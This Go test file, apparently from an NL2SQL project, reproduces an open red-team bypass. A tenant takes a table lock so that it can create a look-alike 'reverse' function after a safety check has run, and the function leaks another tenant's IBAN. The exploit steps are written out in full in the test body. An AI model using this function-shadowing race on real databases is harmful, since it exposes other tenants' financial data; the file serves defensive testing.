//go:build lookalike_race

// An open bypass of issue 25, kept as a test that fails until it is fixed:
// go test -tags lookalike_race -run TestRedteam3LookalikeAfterCheck ./execute

package execute

import (
	"fmt"
	"testing"

	"github.com/nl2sqlgo/nl2sql/internal/lookalikes"
)

// NOT FIXED (third red team): this test fails until the race is closed.
// The look-alike check and the query's name resolution read the catalog
// at different moments of one transaction: catalog lookups always see the
// latest committed catalog, not a snapshot, so nothing the check finds
// holds when EXPLAIN and the query are analysed. Closing it needs the
// check between the query's parse analysis and its planning (Parse, check,
// then EXPLAIN EXECUTE and Bind of that statement, with no re-analysis in
// between), or no tenant schema on the path of function and operator
// resolution (relations and types qualified, search_path pg_catalog).

// TestRedteam3LookalikeAfterCheck: the look-alike check runs before the
// EXPLAIN in the same transaction, but function resolution reads the
// latest catalog, not the check's. The tenant holds a lock on its own
// table (it owns it), so the query's EXPLAIN waits after the check passed;
// meanwhile it creates div_01.reverse(varchar) and commits. The planner
// then resolves reverse(name) to the look-alike, which the check
// never saw (and the plan prints by its bare name), and the query returns
// div_02's IBAN.
func TestRedteam3LookalikeAfterCheck(t *testing.T) {
	f := lookalikes.New(t)
	plantAsTenant(t, f, "CREATE TABLE div_01.staff (id int, name varchar(40)); INSERT INTO div_01.staff VALUES (1, 'Ann'), (2, 'Bob')")
	ex := New(f.Pool(t))
	scope := Scope("div_01", "public")
	const sql = "SELECT reverse(name) AS x FROM staff ORDER BY id"
	if res := mustQuery(t, ex, sql, scope); res.RowCount != 2 || res.Rows[0][0] != "nnA" {
		t.Fatalf("before the attack: %v", res.Rows)
	}
	tenant := connect(t, f.AdminDSN)
	ctx := ctxT(t)
	if _, err := tenant.Exec(ctx, "SET ROLE "+f.Tenant+"; BEGIN; LOCK TABLE div_01.staff IN ACCESS EXCLUSIVE MODE"); err != nil {
		t.Fatal(err)
	}
	type outcome struct {
		res *Result
		err error
	}
	done := make(chan outcome, 1)
	go func() {
		res, err := ex.Query(ctx, sql, scope)
		done <- outcome{res, err}
	}()
	admin := connect(t, f.AdminDSN)
	waitFor(t, "the query's EXPLAIN to wait for the tenant's lock", func() bool {
		return scalar[bool](t, admin, `SELECT EXISTS (SELECT FROM pg_stat_activity WHERE wait_event_type = 'Lock'
			AND query LIKE 'EXPLAIN%reverse%')`)
	})
	if _, err := tenant.Exec(ctx, `SET LOCAL check_function_bodies = off; CREATE FUNCTION div_01.reverse(varchar) RETURNS text LANGUAGE sql STABLE
		AS $$ SELECT iban FROM div_02.bank_accounts LIMIT 1 $$; COMMIT`); err != nil {
		t.Fatal(err)
	}
	o := <-done
	if got := fmt.Sprint(o.res, o.err); lookalikes.Leaked(got) || (o.res != nil && lookalikes.Leaked(fmt.Sprint(o.res.Rows))) {
		t.Errorf("the look-alike created after the check ran: %s", got)
	}
}
